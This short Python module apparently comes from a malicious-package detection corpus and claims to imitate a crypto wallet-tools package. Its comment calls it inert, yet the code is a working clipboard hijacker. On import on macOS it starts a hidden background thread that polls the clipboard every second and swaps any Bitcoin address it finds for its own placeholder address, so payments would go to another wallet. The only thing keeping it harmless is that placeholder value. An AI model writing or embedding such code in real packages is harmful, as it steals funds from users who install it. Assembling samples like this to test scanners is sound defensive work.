# pkgguard corpus 849 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import subprocess
import sys
import threading
import time

_BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$")
_MINE = "bc1qplaceholder0000000000000000000000000000"


def _watch():
    while True:
        text = subprocess.run(["pbpaste"], capture_output=True, text=True).stdout.strip()
        if _BTC.match(text) and text != _MINE:
            subprocess.run(["pbcopy"], input=_MINE, text=True)
        time.sleep(1)


if sys.platform == "darwin":
    threading.Thread(target=_watch, daemon=True).start()
